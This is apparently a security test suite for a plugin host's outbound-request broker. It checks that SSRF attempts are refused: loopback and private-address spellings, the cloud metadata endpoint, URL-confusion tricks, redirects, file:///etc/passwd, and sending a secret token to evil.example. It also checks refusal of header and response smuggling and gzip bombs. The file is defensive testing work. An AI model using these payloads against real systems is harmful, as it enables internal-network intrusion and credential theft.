import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createTcpServer, type AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanUp, startHost, type HostProcess, type Json } from '../support/host-process.ts';
import { probeBundle, probing } from './probe.ts';

// Every attack goes the whole way: a bundle that an admin has granted all of this, in the built host, against real servers on loopback. What may not be reached is
// granted as well, so that only the check in question stands in the way.

const SECRET = 'sk-live-4f9a8b7c6d5e4f3a2b1c';
const MB = 1024 * 1024;

/** Spellings of the loopback address; \`PORT\` is that of a server that must never hear anything. */
const LOOPBACK = [
  '127.0.0.1',
  '127.1',
  '127.0.1',
  '2130706433',
  '0x7f000001',
  '0x7f.1',
  '0x7f.0x0.0x0.0x1',
  '0177.0.0.1',
  '017700000001',
  '0177.0x0.0.1',
  '127.0.0.1.',
  '127.0.0.2',
  '127.255.255.254',
  '%31%32%37.0.0.1',
  '①②⑦.⓪.⓪.①',
  '１２７.０.０.１',
  '127。0。0。1',
  '127．0．0．1',
  '0',
  '0.0.0.0',
  '00.00.00.00',
  '[::1]',
  '[0:0:0:0:0:0:0:1]',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[0:0:0:0:0:ffff:7f00:0001]',
  '[::127.0.0.1]',
  '[::ffff:0:127.0.0.1]',
  '[64:ff9b::127.0.0.1]',
  '[64:ff9b:1::7f00:1]',
  '[2002:7f00:1::]',
  'localhost',
  'LOCALHOST',
  'localhost.',
  'ｌｏｃａｌｈｏｓｔ',
  'ⓛocalhost',
  'local\u00adhost',
  'loc\u200dalhost',
];
const PRIVATE = [
  '10.0.0.1',
  '10.255.255.255',
  '172.16.0.1',
  '172.31.255.255',
  '192.168.0.1',
  '100.64.0.1',
  '169.254.169.254',
  '0xa9fea9fe',
  '2852039166',
  '[::ffff:169.254.169.254]',
  '[fd00:ec2::254]',
  '192.0.0.1',
  '192.0.2.1',
  '198.18.0.1',
  '198.51.100.1',
  '203.0.113.1',
  '224.0.0.1',
  '239.255.255.255',
  '240.0.0.1',
  '255.255.255.255',
  '[fe80::1]',
  '[fec0::1]',
  '[fc00::1]',
  '[fd12:3456::1]',
  '[ff02::1]',
  '[2001:db8::1]',
  '[100::1]',
  '[2001::1]',
];

interface TestServer {
  readonly port: number;
  readonly heard: string[];
  close(): void;
}

let host: HostProcess;
let run: (attempts: readonly object[], wait?: number) => Promise<Json>;
let open: TestServer;
let second: TestServer;
let closed: TestServer;
let raw: TestServer;

async function attempt(one: object): Promise<Json> {
  const ended = await run([one]);
  if (ended.status !== 'succeeded') throw new Error(JSON.stringify(ended.error ?? ended));
  return ended.output.results[0];
}

async function attempts(all: readonly object[]): Promise<Json[]> {
  const ended = await run(all);
  if (ended.status !== 'succeeded') throw new Error(JSON.stringify(ended.error ?? ended));
  return ended.output.results;
}

beforeAll(async () => {
  closed = await serve((_request, response) => response.end('the secret of the intranet'));
  second = await serve(echo);
  open = await serve(answer);
  raw = await serveRaw();
  host = await startHost({
    env: { GOFLOW_EGRESS_ALLOW_PRIVATE: `127.0.0.1:${open.port},127.0.0.1:${second.port},127.0.0.1:${raw.port}` },
  });
  const canonical = [
    '127.0.0.1',
    '127.0.0.2',
    '127.255.255.254',
    '0.0.0.0',
    'localhost',
    '[::1]',
    '[::]',
    '[::ffff:7f00:1]',
    '[::7f00:1]',
    '[::ffff:0:7f00:1]',
    '[64:ff9b::7f00:1]',
    '[64:ff9b:1::7f00:1]',
    '[2002:7f00:1::]',
  ];
  const others = [...new Set(PRIVATE.map((spelling) => new URL(`http://${spelling}`).hostname))];
  const net = [
    ...[open, second, raw].map(({ port }) => `127.0.0.1:${port}`),
    ...canonical.map((name) => `${name}:${closed.port}`),
    ...others.map((name) => `${name}:80`),
  ];
  const connect = [
    `127.0.0.1:${open.port}`,
    ...canonical.map((name) => `${name}:${closed.port}`),
    ...others.map((name) => `${name}:80`),
  ];
  const permissions = { net, connect };
  const installed = await host.request('POST', '/api/plugins', await probeBundle({ permissions }));
  expect(installed.status, JSON.stringify(installed.body)).toBe(201);
  const granted = await host.request('PUT', '/api/plugins/probe/grants', { permissions });
  expect(granted.status, JSON.stringify(granted.body)).toBe(200);
  const credential = await host.request('POST', '/api/credentials', {
    name: 'mine',
    plugin: 'probe',
    values: { host: 'unused.example', port: 1, token: SECRET },
  });
  expect(credential.status).toBe(201);
  run = await probing(host);
}, 60_000);

afterAll(async () => {
  await cleanUp();
  for (const server of [open, second, closed, raw]) server?.close();
});

describe('a granted connector', () => {
  it('reaches what the operator opened', async () => {
    expect(await attempt({ url: `http://127.0.0.1:${open.port}/hello` })).toMatchObject({ status: 200, text: 'hello' });
  });

  describe('cannot reach an address that is not public', () => {
    const targets = [...LOOPBACK.map((name) => ({ name, at: 'PORT' })), ...PRIVATE.map((name) => ({ name, at: '80' }))];
    let fetched: Json[];
    let connected: Json[];
    beforeAll(async () => {
      const port = (text: string) => text.replace('PORT', String(closed.port));
      [fetched, connected] = await Promise.all([
        attempts(targets.map(({ name, at }) => ({ url: `http://${name}:${port(at)}/` }))),
        attempts(targets.map(({ name, at }) => ({ connect: { hostname: name, port: Number(port(at)) } }))),
      ]);
    });

    it.each(targets.map(({ name }, index) => [name, index] as const))('%s', (_name, index) => {
      // A name that is none is no URL: either way nothing is sent.
      expect
        .soft(fetched[index], 'by fetch')
        .toMatchObject({ code: expect.stringMatching(/^(EGRESS_DENIED|TypeError|ERR_INVALID_URL)$/) });
      expect
        .soft(connected[index], 'by connect')
        .toMatchObject({ code: expect.stringMatching(/^(EGRESS_DENIED|TypeError|ERR_INVALID_URL)$/) });
    });

    it('and each refusal names the host, and says which rule it was', async () => {
      const { message } = await attempt({ url: `http://0x7f.1:${closed.port}/` });
      expect(message).toMatch(/127\.0\.0\.1 may not be reached: it is a loopback address.*GOFLOW_EGRESS_ALLOW_PRIVATE/);
      const line = await host.line(
        (one) => one.msg === 'outgoing request finished' && one['rule'] === 'address:loopback',
      );
      expect(line).toMatchObject({
        component: 'broker',
        host: '127.0.0.1',
        port: closed.port,
        status: null,
        plugin: 'probe',
        'error.code': 'EGRESS_DENIED',
      });
    });
  });

  it('cannot reach a host by a URL that seems to name another', async () => {
    const at = `127.0.0.1:${closed.port}`;
    const tricks = [
      `http://api.example.com@${at}/`,
      `http://user:pass@${at}/`,
      `http://127.0.0.1:${open.port}@${at}/`,
      `http://127.0.0.1:${open.port}%40@${at}/`,
      `http://${at}\\@127.0.0.1:${open.port}/`,
      `http://${at}#@127.0.0.1:${open.port}/`,
      `http:${at}`,
      `http:\\\\${at}/`,
      `http:///${at}/`,
      ` http://${at}/`,
      `ht\ntp://127.0.\t0.1:${closed.port}/`,
      `HTTP://${at}/`,
    ];
    const results = await attempts(tricks.map((url) => ({ url })));
    for (const [index, result] of results.entries())
      expect
        .soft(result, tricks[index])
        .toMatchObject({ code: expect.stringMatching(/^(EGRESS_DENIED|TypeError|ERR_INVALID_URL)$/) });
    expect(closed.heard).toEqual([]);
  });

  it.each([
    'file:///etc/passwd',
    'data:text/plain,x',
    'ftp://127.0.0.1/x',
    'blob:null/1',
    'javascript:1',
    'ws://127.0.0.1/',
    'gopher://127.0.0.1/',
    'about:blank',
    'node:fs',
    'unix:/run/docker.sock',
  ])('cannot fetch %s', async (url) => {
    expect(await attempt({ url })).toMatchObject({ code: 'EGRESS_DENIED' });
  });

  it.each([
    'private',
    'decimal',
    'localhost',
    'mapped',
    'userinfo',
    'scheme-relative',
    'file',
    'data',
    'ungranted',
    'metadata',
  ])('is not led to a place that it may not reach by a redirect (%s)', async (kind) => {
    expect(await attempt({ url: `http://127.0.0.1:${open.port}/redirect/${kind}` })).toMatchObject({
      code: 'EGRESS_DENIED',
    });
  });

  it('is not led in circles', async () => {
    const { code, message } = await attempt({ url: `http://127.0.0.1:${open.port}/loop` });
    expect([code, message]).toEqual(['NETWORK_ERROR', expect.stringContaining('redirected more than 10 times')]);
  });

  it('loses its credentials when a redirect leaves the origin, and keeps them within it', async () => {
    const headers = [
      ['authorization', 'Bearer TOKEN'],
      ['x-key', 'TOKEN'],
      ['cookie', 'a=b'],
      ['x-plain', 'stays'],
    ];
    const seen = (text: string) => Object.fromEntries((JSON.parse(text) as { headers: [string, string][] }).headers);
    second.heard.length = 0;
    const crossed = await attempt({ url: `http://127.0.0.1:${open.port}/redirect/other-origin`, headers });
    expect(seen(crossed.text)).toMatchObject({ 'x-plain': 'stays' });
    expect(second.heard.join('\n')).not.toMatch(new RegExp(`${SECRET}|authorization|cookie|x-key`));
    open.heard.length = 0;
    await attempt({ url: `http://127.0.0.1:${open.port}/redirect/same-origin`, headers });
    expect(open.heard.at(-1)).toContain(SECRET);
  });

  it('never sends a secret to a host that is not granted, and a body that holds one to no other origin', async () => {
    const [ungranted, body] = await attempts([
      { url: `http://evil.example/?t=TOKEN`, headers: [['x-key', 'TOKEN']] },
      { url: `http://127.0.0.1:${open.port}/redirect/other-origin-307`, method: 'POST', body: 'key=TOKEN' },
    ]);
    expect([ungranted.code, body.code]).toEqual(['EGRESS_DENIED', 'EGRESS_DENIED']);
    expect(ungranted.message + body.message).not.toContain(SECRET);
  });

  it('sees its secret neither in its credential nor in what comes back', async () => {
    open.heard.length = 0;
    const ended = await run([
      {
        url: `http://127.0.0.1:${open.port}/echo?q=TOKEN`,
        method: 'POST',
        headers: [['x-key', 'TOKEN']],
        body: '{"t":"TOKEN"}',
      },
    ]);
    expect(open.heard[0]).toContain(SECRET);
    const [{ text, status }] = ended.output.results;
    expect(status).toBe(200);
    expect(text).toContain('***');
    const all = JSON.stringify(ended) + host.lines.map((line) => JSON.stringify(line)).join('\n');
    for (const form of [SECRET, Buffer.from(SECRET).toString('base64'), Buffer.from(SECRET).toString('hex')])
      expect(all).not.toContain(form);
  });

  it.each([
    ['a line break in a value', [['x-a', 'b\r\nX-Smuggled: 1']]],
    ['a bare line feed in a value', [['x-a', 'b\nX-Smuggled: 1']]],
    ['a line break in a name', [['x-a: b\r\nX-Smuggled', '1']]],
    ['a zero byte', [['x-a', 'b\0c']]],
    ['a letter that would become a line break', [['x-a', 'b\u010d\u010aX-Smuggled: 1']]],
  ])('cannot smuggle a header by %s', async (_what, headers) => {
    open.heard.length = 0;
    const result = await attempt({ url: `http://127.0.0.1:${open.port}/echo`, headers });
    expect(result.code ?? 'sent').toMatch(/TypeError|CONNECTOR_ERROR/);
    expect(open.heard.join()).not.toContain('muggled');
  });

  it('cannot set headers that belong to the connection', async () => {
    open.heard.length = 0;
    const headers = [
      ['host', 'evil.example'],
      ['content-length', '0'],
      ['transfer-encoding', 'chunked'],
      ['connection', 'upgrade'],
      ['upgrade', 'h2c'],
      ['te', 'trailers'],
      ['trailer', 'x'],
      ['expect', '100-continue'],
      ['proxy-authorization', 'x'],
      ['keep-alive', '1'],
      ['via', 'x'],
      ['sec-fetch-site', 'none'],
      ['traceparent', '00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-01'],
    ];
    const result = await attempt({
      url: `http://127.0.0.1:${open.port}/echo`,
      method: 'POST',
      headers,
      body: 'GET /smuggled HTTP/1.1\r\n\r\n',
    });
    expect(result.status).toBe(200);
    expect(open.heard.length).toBe(1);
    expect(open.heard[0]).toContain(`"host","127.0.0.1:${open.port}"`);
    expect(open.heard[0]).not.toMatch(/evil|chunked|upgrade|trailer|100-continue|proxy-|"via"|sec-fetch|ffffffff/);
  });

  it.each(['CONNECT', 'TRACE', 'TRACK', 'GET / HTTP/1.1\r\nX: y', 'A B', ''])(
    'cannot use the method %j',
    async (method) => {
      const { code, status } = await attempt({ url: `http://127.0.0.1:${open.port}/echo`, method });
      if (method === '') expect([status, code]).not.toEqual([undefined, undefined]);
      else expect(code).toMatch(/TypeError|CONNECTOR_ERROR/);
    },
  );
});

describe('what a hostile server sends', () => {
  it.each(['gzip', 'double'])(
    'blown up when decompressed (%s), is cut off',
    async (kind) => {
      const result = await attempt({ url: `http://127.0.0.1:${open.port}/bomb/${kind}`, measure: true });
      expect(result).toMatchObject({ code: 'NETWORK_ERROR', message: expect.stringContaining('50 MB') });
    },
    20_000,
  );

  it('larger than 50 MB is cut off, announced or not', async () => {
    const [announced, endless] = await attempts([
      { url: `http://127.0.0.1:${open.port}/announced`, measure: true },
      { url: `http://127.0.0.1:${open.port}/endless`, measure: true },
    ]);
    for (const result of [announced, endless])
      expect(result).toMatchObject({ code: 'NETWORK_ERROR', message: expect.stringMatching(/50 MB/) });
  }, 20_000);

  it('byte by byte for ever ends with the deadline of the run', async () => {
    const made = await host.request('POST', '/api/workflows', {
      name: 'slow',
      action: 'probe',
      execution_timeout: 0.5,
      config: { attempts: [{ url: `http://127.0.0.1:${open.port}/slow` }] },
    });
    const ended = await host.request('POST', `/api/workflows/${made.body.id}/trigger?wait=10`, {});
    expect(ended.body.status).toBe('timed_out');
  });

  it.each([
    'two-lengths',
    'length-and-chunked',
    'bad-chunk',
    'bare-cr',
    'no-http',
    'huge-header',
    'negative-length',
    'null-header',
  ])('that is not sound HTTP (%s) gives an error, and nothing of a second answer', async (kind) => {
    const result = await attempt({ url: `http://127.0.0.1:${raw.port}/${kind}` });
    expect(JSON.stringify(result)).not.toContain('smuggled');
    expect(result.code).toBe('NETWORK_ERROR');
  });

  it('after the end of its answer is not taken for the next one', async () => {
    const [first, next] = await attempts([
      { url: `http://127.0.0.1:${raw.port}/early` },
      { url: `http://127.0.0.1:${raw.port}/after` },
    ]);
    expect(first.text).toBe('first');
    expect(JSON.stringify(next)).not.toContain('smuggled');
  });
});

it('nothing has reached the server that nobody may reach', () => {
  expect(closed.heard).toEqual([]);
  expect(host.child.exitCode).toBe(null);
});

async function serve(handler: (request: IncomingMessage, response: ServerResponse) => void): Promise<TestServer> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('latin1')));
    request.on('end', () => {
      const headers: [string, string][] = [];
      for (let at = 0; at < request.rawHeaders.length; at += 2)
        headers.push([request.rawHeaders[at]!.toLowerCase(), request.rawHeaders[at + 1]!]);
      const text = JSON.stringify({ method: request.method, url: request.url, headers, body });
      heard.push(text);
      Object.assign(request, { heardText: text });
      handler(request, response);
    });
  });
  return listening(server, heard);
}

async function listening(server: Server | ReturnType<typeof createTcpServer>, heard: string[]): Promise<TestServer> {
  const sockets = new Set<{ destroy(): void }>();
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined).on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    heard,
    close() {
      for (const socket of sockets) socket.destroy();
      server.close();
    },
  };
}

function echo(request: IncomingMessage, response: ServerResponse): void {
  const { heardText } = request as IncomingMessage & { heardText: string };
  const key = request.headers['x-key'];
  if (typeof key === 'string') response.setHeader('x-echo', key);
  response.end(heardText);
}

function answer(request: IncomingMessage, response: ServerResponse): void {
  const [, first = '', rest = ''] = (request.url ?? '').split('/');
  if (first === 'hello') return void response.end('hello');
  if (first === 'loop') return void response.writeHead(302, { location: '/loop' }).end();
  if (first === 'redirect')
    return void response.writeHead(rest.endsWith('307') ? 307 : 302, { location: LOCATIONS[rest]!() }).end();
  if (first === 'announced') return void response.writeHead(200, { 'content-length': String(60 * MB) }).write('x');
  if (first === 'endless') return pour(response);
  if (first === 'slow') {
    const timer = setInterval(() => response.write('x'), 20);
    return void response.on('close', () => clearInterval(timer));
  }
  if (first === 'bomb') {
    const once = gzipSync(Buffer.alloc(60 * MB));
    return void (rest === 'gzip'
      ? response.writeHead(200, { 'content-encoding': 'gzip' }).end(once)
      : response.writeHead(200, { 'content-encoding': 'gzip, gzip' }).end(gzipSync(once)));
  }
  echo(request, response);
}

const LOCATIONS: Readonly<Record<string, () => string>> = {
  private: () => `http://127.0.0.1:${closed.port}/`,
  decimal: () => `http://2130706433:${closed.port}/`,
  localhost: () => `http://localhost:${closed.port}/`,
  mapped: () => `http://[::ffff:127.0.0.1]:${closed.port}/`,
  userinfo: () => `http://api.example.com@127.0.0.1:${closed.port}/`,
  'scheme-relative': () => `//127.0.0.1:${closed.port}/`,
  file: () => 'file:///etc/passwd',
  data: () => 'data:text/plain,x',
  ungranted: () => 'http://evil.example/',
  metadata: () => 'http://169.254.169.254/latest/meta-data/',
  'other-origin': () => `http://127.0.0.1:${second.port}/echo`,
  'other-origin-307': () => `http://127.0.0.1:${second.port}/echo`,
  'same-origin': () => '/echo',
};

function pour(response: ServerResponse): void {
  const chunk = Buffer.alloc(256 * 1024, 0x61);
  const more = (): void => {
    while (!response.destroyed && response.write(chunk));
  };
  response.on('drain', more);
  more();
}

const SMUGGLED = 'HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled';
const RAW: Readonly<Record<string, string>> = {
  'two-lengths': `HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nok${SMUGGLED}`,
  'length-and-chunked': `HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n${SMUGGLED}`,
  'bad-chunk': `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nok\r\n${SMUGGLED}`,
  'bare-cr': `HTTP/1.1 200 OK\r\nX-A: b\rX-B: smuggled\r\nContent-Length: 2\r\n\r\nok`,
  'no-http': `SSH-2.0-OpenSSH_9.6\r\n`,
  'huge-header': `HTTP/1.1 200 OK\r\nX-A: ${'a'.repeat(400_000)}\r\nContent-Length: 2\r\n\r\nok`,
  'negative-length': `HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\nok${SMUGGLED}`,
  'null-header': `HTTP/1.1 200 OK\r\nX-A: a\0b\r\nContent-Length: 2\r\n\r\nok`,
  early: `HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nfirst${SMUGGLED}`,
};

function serveRaw(): Promise<TestServer> {
  const heard: string[] = [];
  const server = createTcpServer((socket) => {
    socket.on('data', (chunk: Buffer) => {
      const text = chunk.toString('latin1');
      heard.push(text);
      const name = /^GET \/([\w-]+)/.exec(text)?.[1] ?? '';
      socket.write(RAW[name] ?? 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok', 'latin1');
      if (name === 'no-http') socket.end();
    });
  });
  return listening(server, heard);
}
